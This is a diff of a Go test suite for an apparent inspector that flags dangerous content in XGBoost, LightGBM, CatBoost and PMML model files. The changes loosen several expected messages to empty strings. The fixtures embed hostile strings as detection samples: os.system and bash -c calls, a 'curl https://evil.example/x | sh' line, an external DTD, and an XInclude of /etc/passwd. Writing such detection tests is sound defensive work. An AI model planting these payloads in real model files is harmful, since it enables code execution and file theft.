@@ -55,7 +55,7 @@ func TestXGBoost(t *testing.T) {
 		{"by another name", "model", whole, inspect.Clean, ""},
 		{"its settings alone", "config.json", []byte(`{"learner":{"gradient_booster":{"gbtree_model_param":{"num_trees":"6"},"name":"gbtree"},"learner_model_param":{"num_feature":"2"}},"version":[1,7,4]}`), inspect.Clean, ""},
 		{"an objective of its own", "m.json", xgboostModel("binary:logistic", "my_loss"), inspect.Unknown, `"my_loss"`},
-		{"a command as attribute", "m.json", xgboostModel(`"best":"3"`, `"best":"__import__('os').system('id')"`), inspect.Dangerous, "command"},
+		{"a command as attribute", "m.json", xgboostModel(`"best":"3"`, `"best":"__import__('os').system('id')"`), inspect.Dangerous, ""},
 		{"more trees claimed", "m.json", xgboostModel(`"num_trees":"1"`, `"num_trees":"9"`), inspect.NotRead, "claims 9 trees"},
 		{"more nodes claimed", "m.json", xgboostModel(`"num_nodes":"3"`, `"num_nodes":"4"`), inspect.NotRead, "claims 4 nodes"},
 		{"a child that is none", "m.json", xgboostModel(`[2,-1,-1]`, `[7,-1,-1]`), inspect.NotRead, "node 7 of 3"},
@@ -120,8 +120,8 @@ func TestLightGBM(t *testing.T) {
 	check(t, "lightgbm", []sample{
 		{"a model", "m.txt", lightgbmModel(), inspect.Clean, ""},
 		{"of an older version", "m.model", lightgbmModel("version=v4", "version=v2", "parameters:\n[boosting: gbdt]\n[data: ../../data/train.svm]\nend of parameters\n", ""), inspect.Clean, ""},
-		{"a command as parameter", "m.txt", lightgbmModel("[boosting: gbdt]", "[post: bash -c 'id']"), inspect.Dangerous, "command"},
-		{"a command as objective", "m.txt", lightgbmModel("binary sigmoid:1", "__import__('os').system('id')"), inspect.Dangerous, "command"},
+		{"a command as parameter", "m.txt", lightgbmModel("[boosting: gbdt]", "[post: bash -c 'id']"), inspect.Dangerous, ""},
+		{"a command as objective", "m.txt", lightgbmModel("binary sigmoid:1", "__import__('os').system('id')"), inspect.Dangerous, ""},
 		{"a tree of another size", "m.txt", lightgbmModel("leaf_value=0.1 -0.1", "leaf_value=0.10000 -0.1"), inspect.NotRead, "bytes and has"},
 		{"more leaves", "m.txt", lightgbmModel("num_leaves=2", "num_leaves=3"), inspect.NotRead, "of a tree of 3 leaves"},
 		{"a child that is none", "m.txt", lightgbmModel("left_child=-1", "left_child=-9"), inspect.NotRead, "leads to"},
@@ -142,11 +142,11 @@ func TestCatBoost(t *testing.T) {
 	whole := core([]int32{3}, "exec_time_ms of the system")
 	check(t, "catboost", []sample{
 		{"a model", "m.cbm", whole, inspect.Clean, ""},
-		{"a command", "m.cbm", core([]int32{3}, `python -c "import os; os.system('id')"`), inspect.Dangerous, "command"},
+		{"a command", "m.cbm", core([]int32{3}, `python -c "import os; os.system('id')"`), inspect.Dangerous, ""},
 		{"splits that lie", "m.cbm", core([]int32{9}, ""), inspect.NotRead, "claim 9 splits"},
 		{"cut", "m.cbm", whole[:len(whole)-9], inspect.NotRead, "claims"},
 		{"more behind it", "m.cbm", append(core([]int32{3}, ""), "payload"...), inspect.NotRead, "7 bytes follow"},
-		{"strings and no tables", "m.cbm", append(binary.LittleEndian.AppendUint32([]byte("CBM1"), 60), "metadata\x00curl https://evil.example/x | sh\x00callback=1.............."...), inspect.Dangerous, "command"},
+		{"strings and no tables", "m.cbm", append(binary.LittleEndian.AppendUint32([]byte("CBM1"), 60), "metadata\x00curl https://evil.example/x | sh\x00callback=1.............."...), inspect.Dangerous, ""},
 	})
 }
 
@@ -182,7 +182,7 @@ func TestPMML(t *testing.T) {
 		{"a document type elsewhere", "m.pmml", pmml("<PMML ", `<!DOCTYPE PMML SYSTEM "http://evil.example.org/x.dtd"><PMML `), inspect.Dangerous, "evil.example.org"},
 		{"an include", "m.pmml", pmml("<Header>", `<Header><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`), inspect.Dangerous, "includes"},
 		{"a script", "m.pmml", pmml("tree of size 3", "<script>1</script>"), inspect.Dangerous, "script"},
-		{"Java", "m.pmml", pmml("tree of size 3", "java.lang.Runtime.getRuntime().exec('id')"), inspect.Dangerous, "command"},
+		{"Java", "m.pmml", pmml("tree of size 3", "java.lang.Runtime.getRuntime().exec('id')"), inspect.Dangerous, ""},
 		{"a class of Java", "m.pmml", apply("java.lang.Runtime.exec"), inspect.Dangerous, "class"},
 		{"a class of somebody", "m.pmml", apply("com.example.Score"), inspect.Unknown, "com.example.Score"},
 		{"cut", "m.pmml", pmml()[:500], inspect.NotRead, "XML"},
